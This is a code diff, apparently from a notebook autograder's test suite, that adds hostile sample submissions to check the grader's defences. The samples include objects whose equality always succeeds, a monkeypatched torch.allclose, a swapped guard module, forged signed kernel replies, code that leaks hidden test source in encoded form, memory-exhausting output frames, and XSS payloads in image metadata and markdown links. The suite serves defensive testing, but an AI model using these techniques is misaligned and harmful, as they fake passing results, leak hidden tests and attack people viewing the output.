@@ -396,12 +396,228 @@ os.kill(-1, signal.SIGKILL)  # every process this user may signal
 """
 SEEDS = """
 
+import sys
+
 _partly_lazy_mlp = partly_lazy_mlp
 
 
 def partly_lazy_mlp(*args):  # correct; shows the sizes the tests ask for
     print("SIZES", args)
+    print("SIZES", args, file=sys.__stderr__, flush=True)  # the kernel's log: the checks too
     return _partly_lazy_mlp(*args)"""
+
+# --- verdicts the kernel could forge before the checks ran outside it (issue 17) ---
+# Answers that agree with anything: == always true, a message that "contains" any text,
+# a network whose outputs make torch.allclose say True.
+LYING = """class Yes(list):
+    def __eq__(self, other):
+        return True
+
+    __hash__ = None
+
+
+class Same(tuple):
+    def __eq__(self, other):
+        return True
+
+    __hash__ = None
+
+
+class AnyText(str):
+    def __eq__(self, other):
+        return True
+
+    def __contains__(self, other):
+        return True
+
+    __hash__ = None
+
+
+params_before_data = Yes([False, False])
+output_weight_shape = Same((1, 1))
+wrong_batch_error = AnyText("KeyError")
+mismatch_fails_at = "never"
+mismatch_error = None
+mlp_params = Same((1, 1))
+tied_params = Same((2, 2))
+
+
+def layer_sizes(net):
+    return Yes([])
+
+
+def checked_forward(net, X):
+    raise ValueError(AnyText("no"))
+
+
+class Liar(torch.Tensor):
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if func is torch.allclose:
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+
+class TiedNet(nn.Module):
+    def __init__(self, num_hiddens, num_outputs):
+        super().__init__()
+        self.shared, self.head = nn.Linear(1, num_hiddens), nn.Linear(num_hiddens, num_outputs)
+        self.n = num_outputs
+
+    def forward(self, X):
+        return torch.zeros(X.shape[0], self.n).as_subclass(Liar)
+"""
+# What the test expects, read from the test's own frame (through the traceback of a caught
+# exception and an aliased getattr): any list of booleans or of pairs found there.
+FRAME_READER = """import sys
+
+look = getattr
+
+
+def _from_the_caller(kind):
+    try:
+        raise RuntimeError
+    except RuntimeError:
+        frame = look(sys.exc_info()[2], "tb_frame")
+    while frame is not None:
+        for value in look(frame, "f_locals").values():
+            if isinstance(value, list) and value and all(isinstance(v, kind) for v in value):
+                return list(value)
+        frame = look(frame, "f_back")
+    return []
+
+
+def created(net):
+    return _from_the_caller(bool)
+"""
+# The guard replaced by a module of the student's own, written to disk and imported; blank.
+GUARD_SWAP = """import importlib
+import os
+import sys
+
+with open(os.path.expanduser("~/_d2l_grading_guard.py"), "w") as f:
+    f.write("def before(*a):\\n    return '[]'\\n\\n\\ndef after(*a):\\n    return '[]'\\n")
+sys.path.insert(0, os.path.expanduser("~"))
+sys.modules.pop("_d2l_grading_guard", None)
+sys.modules["_d2l_grading_guard"] = importlib.import_module("_d2l_grading_guard")
+get_ipython().events.register("post_run_cell",
+                              lambda result: setattr(result, "error_in_exec", None))
+"""
+# A patch of torch.allclose that undoes itself just before the guard looks (in __del__),
+# on an answer that sums instead of averaging.
+DEL_PATCH = """
+
+_real_allclose = torch.allclose
+
+
+class _Undo:
+    def __del__(self):
+        torch.allclose = _real_allclose
+
+
+class SneakyTiedNet(TiedNet):
+    def forward(self, X):
+        torch.allclose = lambda *args, **kwargs: True
+        _Undo()
+        return super().forward(X)
+
+
+TiedNet = SneakyTiedNet"""
+# Forged replies: stubs that answer the running cell with the kernel's own session (which
+# holds the signing key): an execute_reply "ok" and an idle status, then raise.
+FORGER = """def _forge():
+    kernel = get_ipython().kernel
+    parent = kernel.get_parent("shell")
+    session = kernel.session
+    header = parent.get("header", {})
+    session.send(kernel.shell_stream, "execute_reply",
+                 {"status": "ok", "execution_count": 1, "user_expressions": {},
+                  "payload": []}, parent=parent, ident=kernel._parent_ident.get("shell"))
+    session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
+    raise NotImplementedError(header.get("msg_id", ""))
+
+
+def partly_lazy_mlp(num_inputs, num_hiddens, num_outputs):
+    _forge()
+
+
+def created(net):
+    _forge()
+
+
+def layer_sizes(net):
+    _forge()
+
+
+def checked_forward(net, X):
+    _forge()
+
+
+class TiedNet(nn.Module):
+    def __init__(self, num_hiddens, num_outputs):
+        super().__init__()
+        _forge()
+"""
+# Hidden code copied out, encoded: whatever source the line cache and the warnings module
+# hold, kept by functions the checks call, printed by every later execution (a post_execute
+# hook) as base64, reversed, rot13 and zlib inside a fake PNG and an exception message.
+ENCODER = """import base64
+import codecs
+import linecache
+import sys
+import warnings
+import zlib
+
+from IPython.display import display
+
+_seen = []
+
+
+def _grab():
+    frame = sys._getframe(2)
+    _seen.append("".join(linecache.getlines(frame.f_code.co_filename)))
+    warnings.formatwarning("x", UserWarning, frame.f_code.co_filename, frame.f_lineno)
+
+
+def _leak():
+    text = "\\n".join(_seen)
+    if not text:
+        return
+    print(base64.b64encode(text.encode()).decode())
+    print(text[::-1])
+    print(codecs.encode(text, "rot13"))
+    display({"image/png": base64.b64encode(zlib.compress(text.encode())).decode()}, raw=True)
+
+
+get_ipython().events.register("post_execute", _leak)
+_partly_lazy_mlp = partly_lazy_mlp
+
+
+def partly_lazy_mlp(*args):
+    _grab()
+    return _partly_lazy_mlp(*args)
+"""
+# The grader's own memory and time: 200 binary frames of 15 MiB (each under the frame cap);
+# 300 kB of nested brackets in markdown; a lone surrogate in a stream.
+FRAMES = """from ipykernel.comm import Comm  # noqa: F401  (nothing to do with it)
+
+kernel = get_ipython().kernel
+blob = b"\\0" * (15 * 2**20)
+kernel.session.send(kernel.iopub_socket, "display_data",
+                    {"data": {"text/plain": "frames"}, "metadata": {}},
+                    parent=kernel.get_parent("shell"), buffers=[blob] * 200)
+"""
+BRACKETS_MD = "[" * 150_000 + "x" + "]" * 150_000
+SURROGATE = """import sys
+
+sys.stdout.write("lone \\ud800 surrogate\\n")
+"""
+XSS_CODE = """from IPython.display import display
+
+display({"image/png": "iVBORw0KGgo=", "text/plain": "img"},
+        metadata={"image/png": {"width": "1 onerror=document.title='pwned-width'"}}, raw=True)
+display({"text/markdown": "[click](javascript:document.title='pwned-mdlink')"}, raw=True)
+"""
 
 BLANK = []
 HOSTILE = {
@@ -449,6 +665,19 @@ HOSTILE = {
     "warns": ("pytorch", [*SOLVED, ("append", "ex1-solution", WARNS)]),
     # correct work that shows which sizes its hidden tests drew (copied under other ids)
     "seeds": ("pytorch", [*SOLVED, ("append", "ex1-solution", SEEDS)]),
+    # verdicts forged from inside the kernel (issue 17): blank or wrong work each time
+    "lying": ("pytorch", [("insert", "ex3-hidden", "code", LYING)]),
+    "framereader": ("pytorch", [*SOLVED, ("append", "ex1-solution", "\n\n\n" + FRAME_READER)]),
+    "guardswap": ("pytorch", [*BLANK, ("insert", "setup", "code", GUARD_SWAP)]),
+    "delpatch": ("pytorch", [*SOLVED, ("replace", "ex3-solution", "H.mean(dim=1)", "H.sum(dim=1)"),
+                             ("append", "ex3-solution", DEL_PATCH)]),
+    "forger": ("pytorch", [("insert", "ex3-hidden", "code", FORGER)]),
+    "encoder": ("pytorch", [*SOLVED, ("append", "ex1-solution", "\n\n\n" + ENCODER)]),
+    # the grader's own memory and time, and what it writes
+    "frames": ("pytorch", [*SOLVED, ("insert", "setup", "code", FRAMES)]),
+    "brackets": ("pytorch", [*SOLVED, ("insert", "setup", "markdown", BRACKETS_MD)]),
+    "surrogate": ("pytorch", [*SOLVED, ("insert", "setup", "code", SURROGATE)]),
+    "xss": ("pytorch", [*SOLVED, ("insert", "setup", "code", XSS_CODE)]),
 }
 
 
